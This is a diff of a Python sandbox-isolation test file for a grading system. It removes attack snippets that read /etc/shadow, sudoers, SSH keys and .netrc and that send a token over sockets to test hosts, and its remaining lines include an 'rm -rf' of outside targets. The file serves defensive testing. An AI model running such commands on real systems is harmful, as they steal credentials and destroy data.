@@ -1,6 +1,7 @@
-"""Attacks by code that reach for what lies outside of the sandbox: secrets, files, processes, listeners.
+"""Attacks by code that reach for what lies outside of the sandbox: secrets, files, processes.
 
-Each reports what it got hold of. ``OUTSIDE`` tells it all that an insider could know: where everything lies.
+Each reports what it got hold of. ``OUTSIDE`` tells it all that an insider could know: where everything lies. (Accounts,
+rights and the network: tests/grading/isolation.)
 """
 
 from hostile import CANARY, Attack
@@ -33,22 +34,6 @@ for name in ("marking.marking", "gradebook", "isolation", "design", "model", "st
         if importlib.util.find_spec(f"labcourse.grading.{{name}}"): modules.append(name)
     except ImportError: pass
 report |= {{"got": got, "canaries": [one.decode() for one in found], "modules": modules}}
-"""
-ACCOUNTS = """
-import pwd
-shell = get_ipython()
-def lines(path):
-    try: return open(path).read().splitlines()
-    except OSError: return []
-report["accounts"] = lines("/etc/passwd")
-report["shadow"] = lines("/etc/shadow") + lines("/etc/gshadow") + lines("/etc/sudoers")
-said = shell.getoutput("cat /etc/shadow /etc/sudoers ~/.ssh/* ~/.netrc 2>/dev/null; ls -A /home")
-report["by-magic"] = [line for line in said if not line.startswith("ls:")]
-report["user"] = [pwd.getpwuid(os.getuid()).pw_name, os.getuid() == 0, len(pwd.getpwall())]
-rights = [line.split() for line in lines("/proc/self/status") if line.startswith(("CapEff", "CapPrm", "CapBnd"))]
-report["capabilities"] = [int(right, 16) for _, right in rights]
-report["home"] = sorted(os.listdir(os.path.expanduser("~")))[:20]
-shell.run_line_magic("cd", "-q /")
 """
 # The memory, environment and descriptors of every process that can be seen, and of those whose numbers are known.
 MEMORIES = f"""
@@ -123,50 +108,11 @@ attempt("terminal", lambda: __import__("fcntl").ioctl(0, 0x5412, b"x"))
 subprocess.run(["sh", "-c", f"rm -rf {OUTSIDE['marker']} {' '.join(OUTSIDE['targets'])}"], capture_output=True)
 report["written"] = written
 """
-NETWORK = """
-import socket, array
-word = OUTSIDE["token"].encode()
-reached = []
-def attempt(what, family, kind, address):
-    try:
-        with socket.socket(family, kind) as one:
-            one.settimeout(0.5)
-            one.connect(address)
-            one.send(word)
-            if kind == socket.SOCK_STREAM or family == socket.AF_UNIX: reached.append(what)
-    except (OSError, RuntimeError): pass
-for host in OUTSIDE["hosts"]:
-    attempt("tcp", socket.AF_INET, socket.SOCK_STREAM, (host, OUTSIDE["tcp"]))
-    attempt("udp", socket.AF_INET, socket.SOCK_DGRAM, (host, OUTSIDE["udp"]))
-    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(word, (host, OUTSIDE["udp"]))
-    except (OSError, RuntimeError): pass
-attempt("unix", socket.AF_UNIX, socket.SOCK_STREAM, OUTSIDE["unix"])
-attempt("abstract", socket.AF_UNIX, socket.SOCK_STREAM, chr(0) + OUTSIDE["abstract"])
-for family, kind in ((17, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
-    try: socket.socket(family, kind, 1); reached.append("raw")
-    except (OSError, RuntimeError): pass
-try: reached.append(socket.getaddrinfo("example.com", 80)[0][4])
-except OSError: pass
-interfaces = [name for _, name in socket.if_nameindex()] if hasattr(socket, "if_nameindex") else []
-report |= {"reached": reached, "interfaces": [name for name in interfaces if name != "lo"]}
-"""
 
 REACH = {
     "searches": Attack({"q2-11": SEARCHES}, finds={"got": [], "canaries": [], "modules": []}),
-    "reads-accounts": Attack(
-        {"q2-11": ACCOUNTS},
-        finds={
-            "accounts": lambda lines: len(lines) == 1 and ":0:" not in lines[0],
-            "shadow": [],
-            "by-magic": [],
-            "user": lambda user: user[1:] == [False, 1],
-            "capabilities": [0, 0, 0],
-            "home": lambda names: set(names) <= {".cache", ".config", ".ipython", ".local", ".sympy"},
-        },
-    ),
     "reads-memories": Attack(
         {"q2-11": MEMORIES}, finds={"canaries": [], "seen": True, "outer": [], "unknown": [], "variables": []}
     ),
     "writes-outside": Attack({"q2-11": WRITES}, finds={"written": []}),
-    "network": Attack({"q2-11": NETWORK}, finds={"reached": [], "interfaces": []}),
 }
